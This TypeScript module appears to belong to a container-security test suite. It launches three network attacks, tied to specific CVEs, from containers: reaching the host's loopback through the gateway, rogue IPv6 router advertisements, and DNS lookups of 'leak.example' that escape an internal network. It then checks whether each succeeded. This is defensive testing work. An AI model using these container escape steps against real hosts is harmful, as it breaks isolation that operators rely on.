/**
 * Attacks of a container over its network. They take place in a network namespace of the suite's own.
 *
 * @module
 */

import { createSocket } from "node:dgram";
import { type Attack, sh } from "./attack.ts";
import { runOrder } from "./engines.ts";
import { type Evidence, type Order, runHost } from "./scene.ts";

/** Listens for datagrams on the host's loopback while something is done; whether there was one
 * with these words in it. */
async function hear(of: string, port: number, work: (port: number) => Promise<Evidence>): Promise<Evidence> {
  const socket = createSocket("udp4");
  let heard = "";
  socket.on("message", (text) => heard += text.includes(of) ? "HEARD" : "");
  await new Promise<void>((end) => socket.bind(port, "127.0.0.1", end));
  try {
    const { code, output } = await work(socket.address().port);
    await new Promise((end) => setTimeout(end, 200));
    return { code, output: `${output} ${heard}` };
  } finally {
    socket.close();
  }
}

const HEARD = (_: unknown, { output }: Evidence): boolean => output.includes("HEARD");
const RAW: Omit<Order, "args"> = { network: "bridge", addCapabilities: ["NET_RAW", "NET_ADMIN"] };
/** The container's address and its gateway, as words of a shell. */
const ADDRESSES = "me=$(ip -o -4 addr show eth0 | sed 's/.*inet //; s,/.*,,'); " +
  "gw=$(ip route | sed -n 's/^default via \\([0-9.]*\\).*/\\1/p'); gw=${gw:-10.99.0.1}";

export const NETWORK: readonly Attack[] = [
  {
    id: "CVE-2020-8558",
    alone: true,
    engine: "kubernetes, docker",
    title: "a packet for 127.0.0.1 is sent to the gateway: it reaches what listens on the host's loopback",
    needs: ["bridge"],
    attempt: (scene, engine) =>
      hear(
        "from a container",
        0,
        (port) => runOrder(engine, scene, { ...RAW, args: sh(`${ADDRESSES}; /attack loopback ${port} $me $gw`) }),
      ),
    succeeded: HEARD,
  },
  {
    id: "CVE-2020-13401",
    alone: true,
    engine: "docker",
    title: "a container advertises itself as an IPv6 router: the host takes it for its own",
    needs: ["bridge"],
    async attempt(scene, engine) {
      let all = "", code = 0;
      for (const network of ["bridge", "ipv6"] as const) {
        const args = sh("sleep 0.3; /attack advertise; sleep 0.3");
        const evidence = await runOrder(engine, scene, { ...RAW, network, args });
        const { output } = await runHost(["ip", "-6", "route", "show", "default"]);
        all += `${evidence.output} ${output.includes("fe80::bad") ? "HEARD" : ""}`;
        code = evidence.code;
        await engine.end?.(scene);
      }
      return { code, output: all };
    },
    succeeded: HEARD,
  },
  {
    id: "CVE-2024-29018",
    alone: true,
    engine: "docker",
    title: "from an internal network, names are asked of the host's resolver, which asks the world",
    needs: ["internal networks"],
    async attempt(scene, engine) {
      const file = `${scene.room}/resolv.conf`;
      await Deno.writeTextFile(file, "nameserver 127.0.0.1\n");
      await runHost(["mount", "--bind", file, "/etc/resolv.conf"]);
      try {
        const script = `${ADDRESSES}; for s in 127.0.0.1 $gw; do nslookup -type=a leak.example $s; done`;
        return await hear("leak", 53, () =>
          runOrder(engine, scene, {
            network: "internal",
            args: sh(`(${script}) & sleep 1; nslookup leak.example & sleep 0.5`),
          }));
      } finally {
        await runHost(["umount", "-l", "/etc/resolv.conf"]);
      }
    },
    succeeded: HEARD,
  },
];
